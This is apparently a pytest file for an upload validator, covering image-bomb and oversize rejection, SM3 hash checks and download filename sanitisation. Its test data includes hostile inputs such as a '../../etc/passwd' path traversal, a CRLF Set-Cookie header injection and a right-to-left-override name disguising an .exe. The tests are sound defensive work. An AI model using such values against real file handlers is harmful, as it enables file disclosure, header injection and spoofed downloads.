def test_deflated_zeros_helper_is_a_real_stream() -> None:
    assert zlib.decompress(deflated_zeros(3), -15) == bytes(3 * MiB)


def test_pixel_flood_is_refused_before_decoding(tmp_path: Path) -> None:
    data = pixel_flood_png(20000, 20000)
    assert len(data) < 200
    with pytest.raises(UploadRejected) as caught:
        inspect_file(tmp_path, data, "photo.png")
    assert "20000×20000" in caught.value.zh and "400,000,000" in caught.value.zh


class CountingStream(io.RawIOBase):
    """Endless zeros after a PDF header; counts what the validator reads."""

    def __init__(self) -> None:
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        view = memoryview(buffer)
        view[:] = b"\x00" * len(view)
        self.read_bytes += len(view)
        return len(view)


def test_oversize_stops_reading_at_the_limit() -> None:
    stream = CountingStream()
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(io.BufferedReader(stream), "big.pdf", max_bytes=3 * MiB)
    assert caught.value.code == "too_large"
    assert stream.read_bytes <= 3 * MiB + 2 * 8192 + 1
    assert "3 MB" in caught.value.zh


def test_reads_from_the_current_position(tmp_path: Path) -> None:
    data = b"prefix to skip" + png_bytes()
    stream = io.BytesIO(data)
    stream.seek(len(b"prefix to skip"))
    inspected = inspect_upload(stream, "photo.png")
    assert inspected.size == len(data) - len(b"prefix to skip")


def test_unknown_allowed_kind_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="gif"):
        inspect_upload(io.BytesIO(png_bytes()), "a.png", allowed=frozenset({"png", "gif"}))


# -------------------------------------------------------------------------------------------- SM3


def test_sm3_known_answers() -> None:
    sm3_self_test()
    assert sm3_hex(io.BytesIO(b"abc")) == "66c7f0f462eeedd9d1f2d46bdc10e4e24167c4875cf2f7a2297da02b8f4ba8e0"
    assert (
        sm3_hex(io.BytesIO(b"abcd" * 16))
        == "debe9ff92275b8a138604889c18e5a4d6fdb70e5387e5765293dcba39c0c5732"
    )


@pytest.mark.skipif(not HAS_HASHLIB_SM3, reason="OpenSSL without SM3 in hashlib")
def test_sm3_hex_matches_hashlib_across_chunk_boundaries() -> None:
    data = random_bytes(2 * MiB + 12345)
    assert sm3_hex(io.BytesIO(data)) == hashlib.new("sm3", data).hexdigest()


def test_sm3_self_test_fails_on_a_wrong_vector(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validation, "_SM3_VECTORS", ((b"abc", "00" * 32),))
    with pytest.raises(SM3SelfTestError):
        sm3_self_test()


# ----------------------------------------------------------------------------------- download names


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\张三\\能源审计报告.pdf", "能源审计报告.pdf"),
        ("report\r\nSet-Cookie: a=b.pdf", "reportSet-Cookie_ a=b.pdf"),
        ("\u202efdp.exe", "fdp.exe"),
        ('a"b<c>|?*.pdf', "a_b_c____.pdf"),
        ("绿色工厂 自评价报告（2024 年）.docx", "绿色工厂 自评价报告（2024 年）.docx"),
        ("  ..  ", "download"),
        ("", "download"),
        ("CON.pdf", "_CON.pdf"),
        ("x\x00y.pdf", "xy.pdf"),
    ],
)
def test_safe_download_name(raw: str, safe: str) -> None:
    assert safe_download_name(raw) == safe


def test_safe_download_name_keeps_the_extension_when_shortening() -> None:
    name = safe_download_name("能" * 300 + ".pdf")
    assert name.endswith(".pdf")
    assert len(name) <= 200 and len(name.encode()) <= 255


@given(st.text(max_size=300))
def test_safe_download_name_is_always_safe(raw: str) -> None:
    name = safe_download_name(raw)
    assert name
    assert len(name) <= 200 and len(name.encode("utf-8")) <= 255
    assert not any(ch in name for ch in '/\\<>:"|?*\r\n\x00')
    assert not name.startswith((" ", ".")) and not name.endswith((" ", "."))


SMALL_PNG = png_bytes(8, 8)


@given(
    st.text(max_size=80)
    | st.builds(
        lambda stem, ext: f"{stem}.{ext}", st.text(max_size=20), st.sampled_from(["png", "PNG", "pdf", "php"])
    )
)
def test_any_file_name_is_accepted_or_rejected_cleanly(name: str) -> None:
    try:
        inspected = inspect_upload(io.BytesIO(SMALL_PNG), name)
    except UploadRejected as rejected:
        outcome = rejected.code
    else:
        outcome = inspected.kind
    assert outcome == "png" or outcome in REJECTION_CODES
